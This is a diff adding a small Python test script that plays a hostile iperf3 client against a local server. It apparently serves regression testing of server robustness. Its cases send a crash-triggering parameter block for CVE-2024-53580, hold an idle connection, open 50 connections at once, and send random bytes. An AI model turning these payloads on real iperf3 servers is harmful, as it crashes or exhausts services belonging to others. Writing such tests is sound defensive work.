@@ -1,0 +1,62 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+# iperf_hostile.py PORT CASE: one hostile iperf3 client against the server
+# on 127.0.0.1:PORT.  Cases: crash (the CVE-2024-53580 parameter block),
+# idle (connects and says nothing; prints how long until the server hung
+# up), flood (50 connections at once), garbage (random bytes).
+import os
+import socket
+import struct
+import sys
+import time
+
+PORT = int(sys.argv[1])
+ADDR = ("127.0.0.1", PORT)
+
+
+def crash():
+    s = socket.create_connection(ADDR, timeout=10)
+    s.sendall(b"a" * 36 + b"\0")
+    s.recv(1)			# PARAM_EXCHANGE
+    block = b'{"tcp":true,"time":1,"title":5}'
+    s.sendall(struct.pack(">I", len(block)) + block)
+    try:
+        s.recv(100)
+    except OSError:
+        pass
+    s.close()
+
+
+def idle():
+    s = socket.create_connection(ADDR, timeout=60)
+    t = time.monotonic()
+    try:
+        s.recv(100)
+    except OSError:
+        pass
+    print("%.1f" % (time.monotonic() - t))
+    s.close()
+
+
+def flood():
+    socks = []
+    for _ in range(50):
+        try:
+            socks.append(socket.create_connection(ADDR, timeout=5))
+        except OSError:
+            pass
+    for s in socks:
+        s.close()
+
+
+def garbage():
+    s = socket.create_connection(ADDR, timeout=10)
+    try:
+        s.sendall(os.urandom(37) + b"\xff\xff\xff\xff" + os.urandom(4000))
+        s.recv(100)
+    except OSError:
+        pass
+    s.close()
+
+
+{"crash": crash, "idle": idle, "flood": flood, "garbage": garbage}[sys.argv[2]]()
